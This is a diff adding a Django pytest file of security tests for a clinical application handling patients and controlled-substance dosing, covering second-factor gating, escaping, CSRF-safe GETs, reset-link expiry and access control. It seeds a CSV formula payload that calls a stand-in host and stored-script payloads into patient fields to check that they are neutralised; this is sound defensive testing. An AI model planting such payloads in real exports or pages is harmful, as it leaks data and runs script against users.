@@ -1,0 +1,260 @@
+"""Security probes across every URL: what the permission matrix does not ask."""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+from django.db import transaction
+from django.test import Client
+from django.urls import reverse
+
+from kapstone.accounts.models import AccountLink
+from kapstone.accounts.services import account_link_create
+from kapstone.creativity.services import CreativityError
+from kapstone.integration.models import IntegrationNote
+from kapstone.program.models import Enrolment, Unavailability
+from tests.conftest import signed_in_client
+from tests.dosing.helpers import receive_stock
+from tests.foundation.test_login import current_code
+from tests.integration_app.factories import integration_session_after
+from tests.matrix import SIGNED_IN
+from tests.test_mixed_ids import _dosing_session_of_dana, _rows_digest
+from tests.test_permission_matrix import ROUTES
+
+
+@pytest.mark.parametrize("name", sorted(n for n, r in ROUTES.items() if not r.public))
+def test_staff_who_have_not_passed_the_second_factor_reach_no_page(name, cast):
+    route = ROUTES[name]
+    url = reverse(name, kwargs=route.kwargs(cast))
+    for role in ("admin", "bob", "therapist", "nurse", "researcher"):
+        client = Client()
+        client.force_login(cast.user(role))
+        for method in ("get", "post"):
+            response = getattr(client, method)(url)
+            assert response.status_code in (302, 405), f"{role} {method} {name}: {response.status_code}"
+            if response.status_code == 302:
+                assert response.url.startswith(reverse("accounts:login")), (role, method, name, response.url)
+
+
+# --- spreadsheet formulas in downloads --------------------------------------------------------------------------
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200, response.status_code
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    return [
+        cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.startswith("-=")
+    ]
+
+
+def test_the_controlled_substance_log_csv_holds_no_formula(cast):
+    receive_stock(
+        actor=cast.nurse,
+        drug="ketamine",
+        form="lozenge",
+        strength=Decimal("100"),
+        lot_number=FORMULA[:40],
+        expires_on=datetime.date(2030, 1, 1),
+        location="Main safe",
+        amount_mg=Decimal("1000"),
+    )
+    rows = _csv_rows(signed_in_client(cast.nurse).get(reverse("dosing:ledger_export", args=["csv"])))
+    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
+    assert _formula_cells(rows) == []
+
+
+# --- stored script in what patients and staff type --------------------------------------------------------------
+
+SCRIPT = "<script>alert(1)</script>"
+IMAGE = "\"'><img src=x onerror=alert(2)>"
+
+
+def _seed_hostile_text(cast):
+    """Alice's name, diagnosis, journal and messages, written with markup."""
+    from kapstone.messaging import services as messaging_services
+    from kapstone.patients.models import Diagnosis
+    from tests.integration_app.factories import journal_entry
+
+    cast.alice.given_name = SCRIPT[:40]
+    cast.alice.family_name = IMAGE[:40]
+    cast.alice.preferred_name = SCRIPT[:40]
+    cast.alice.save()
+    Diagnosis.objects.filter(patient=cast.alice).update(description=IMAGE)
+    journal_entry(cast.alice, text=SCRIPT + IMAGE, shared=True)
+    messaging_services.thread_start(actor=cast.alice_user, patient=cast.alice, subject=SCRIPT[:40], body=SCRIPT + IMAGE)
+
+
+def _kwargs_of(route, cast) -> dict | None:
+    """The route's arguments, built beside every other route's rows; None where they clash (the permission matrix
+    builds each alone): a creativity task is never put due on a day a route before it made a dosing day."""
+    try:
+        with transaction.atomic():
+            return route.kwargs(cast)
+    except CreativityError:
+        return None
+
+
+def _markup_of(response) -> str:
+    kind = response.get("Content-Type", "")
+    if response.status_code != 200 or not kind.startswith(("text/html", "image/svg")):
+        return ""
+    return b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
+
+
+def test_typed_markup_is_escaped_on_every_page(cast):
+    _seed_hostile_text(cast)
+    clients = {role: signed_in_client(cast.user(role)) for role in SIGNED_IN}
+    asked, shown, skipped = 0, 0, []
+    for name, route in sorted(ROUTES.items()):
+        if route.public or route.method != "get":
+            continue
+        kwargs = _kwargs_of(route, cast)
+        if kwargs is None:
+            skipped.append(name)
+            continue
+        url = reverse(name, kwargs=kwargs)
+        for role in sorted(route.allow):
+            page = _markup_of(clients[role].get(url))
+            asked += bool(page)
+            shown += "&lt;script&gt;alert" in page
+            assert "<script>alert" not in page and "<img src=x" not in page, f"{role} on {name}"
+    assert asked > 100 and len(skipped) < 5, skipped
+    assert shown > 20, "the markup was shown (escaped) on the pages that name alice"
+
+
+# --- a GET never writes -----------------------------------------------------------------------------------------
+
+
+# What opening a page may write, and why it is harmless to have it written by a link someone else planted.
+WRITTEN_BY_READING = {
+    # When the reader last read the thread: what "unread" counts from.
+    ("messaging:my_thread", "messaging_threadread"),
+    ("messaging:thread", "messaging_threadread"),
+    # The report computed once and kept, so the next reader waits less; it changes no patient's record.
+    ("outcomes:report", "outcomes_reportsnapshot"),
+    # The emailed questionnaire link is spent by its own patient's opening it; another's token is a 404.
+    ("portal:invitation", "measures_invitation"),
+}
+
+
+def test_opening_a_page_changes_no_record(cast):
+    """A link followed (a prefetching mail scanner, an <img> on another site) must not change anything: every
+    change is a POST, where the CSRF check applies."""
+    wrote, clients = [], {role: signed_in_client(cast.user(role)) for role in SIGNED_IN}
+    for name, route in sorted(ROUTES.items()):
+        if route.method != "get":
+            continue
+        kwargs = _kwargs_of(route, cast)
+        if kwargs is None:
+            continue
+        url = reverse(name, kwargs=kwargs)
+        before = _rows_digest()
+        for role in sorted(route.allow | route.not_found):
+            clients[role].get(url)
+            after = _rows_digest()
+            changed = sorted(
+                table
+                for table, digest in after.items()
+                if before.get(table) != digest and (name, table) not in WRITTEN_BY_READING
+            )
+            if changed:
+                wrote.append((name, role, changed))
+            before = after
+    assert wrote == [], "\n".join(map(str, wrote))
+
+
+# --- emailed links ----------------------------------------------------------------------------------------------
+
+NEW_PASSWORD = "a-brand-new-long-passphrase"
+
+
+def _link(user, purpose) -> str:
+    return account_link_create(user=user, purpose=purpose, lifetime=datetime.timedelta(hours=1))
+
+
+def _sets_a_password(token: str) -> bool:
+    url = reverse("accounts:set_password", args=[token])
+    return Client().post(url, {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD}).status_code == 302
+
+
+def test_a_password_set_by_one_link_ends_the_person_s_other_links(cast):
+    invitation = _link(cast.alice_user, AccountLink.Purpose.PORTAL_INVITATION)
+    reset = _link(cast.alice_user, AccountLink.Purpose.PASSWORD_RESET)
+    assert _sets_a_password(reset)
+    assert not _sets_a_password(invitation)
+
+
+def test_changing_a_password_ends_a_reset_link_not_yet_used(cast):
+    reset = _link(cast.alice_user, AccountLink.Purpose.PASSWORD_RESET)
+    client = signed_in_client(cast.alice_user)
+    response = client.post(
+        reverse("accounts:password_change"),
+        {"old_password": "correct-horse-battery", "new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
+    )
+    assert response.status_code == 302
+    assert not _sets_a_password(reset)
+
+
+# --- ids chosen in a posted form --------------------------------------------------------------------------------
+
+
+def test_a_patient_outside_the_care_team_cannot_be_posted_into_a_group(cast):
+    group = cast.dosing_session().group
+    client = signed_in_client(cast.bob)
+    for name, fields in (
+        ("program:enrol", {"enrol-patient": cast.dana.pk}),
+        ("program:waitlist", {"waitlist-patient": cast.dana.pk, "waitlist-reason": "next cohort"}),
+    ):
+        response = client.post(reverse(name, args=[group.pk]), fields)
+        assert response.status_code == 400, name
+        assert "Delacroix" not in response.content.decode()
+    assert not Enrolment.objects.filter(patient=cast.dana).exists()
+
+
+def test_a_note_cannot_be_linked_to_a_session_of_another_patient_s_group(cast):
+    dana_session = _dosing_session_of_dana(cast)
+    integration = integration_session_after(dana_session, hours=24)
+    response = signed_in_client(cast.bob).post(
+        reverse("integration:note_add", args=[cast.alice.pk]), {"session": integration.pk, "text": "Went well"}
+    )
+    assert response.status_code == 400
+    assert not IntegrationNote.objects.exists()
+
+
+def test_only_an_admin_records_away_dates_for_someone_else(cast):
+    response = signed_in_client(cast.therapist).post(
+        reverse("program:staff_away"),
+        {"staff": cast.bob.pk, "first_day": datetime.date.today().isoformat(), "last_day": ""},
+    )
+    assert response.status_code == 400
+    assert not Unavailability.objects.filter(staff=cast.bob).exists()
+
+
+def test_a_researcher_sees_no_one_identified(cast):
+    client = signed_in_client(cast.researcher)
+    for name in ("home:home", "outcomes:report", "outcomes:research_export"):
+        page = client.get(reverse(name)).content.decode()
+        for identifier in ("Abernathy", "Delacroix", cast.alice.record_number, cast.alice.email):
+            assert identifier not in page, (name, identifier)
+
+
+# --- the second factor ------------------------------------------------------------------------------------------
+
+
+def test_wrong_codes_at_the_second_step_lock_it_so_a_right_code_then_signs_no_one_in(cast, settings):
+    client = Client()
+    client.post(reverse("accounts:login"), {"username": "bob", "password": "correct-horse-battery"})
+    second_step = reverse("accounts:sign_in_second_step")
+    for _ in range(settings.AXES_FAILURE_LIMIT):
+        assert client.post(second_step, {"otp_token": "000000"}).status_code in (400, 429)
+    response = client.post(second_step, {"otp_token": current_code(cast.bob)})
+    assert response.status_code in (302, 429) and response.get("Location", "") != reverse("home:home")
+    assert client.get(reverse("patients:list")).url.startswith(reverse("accounts:login"))
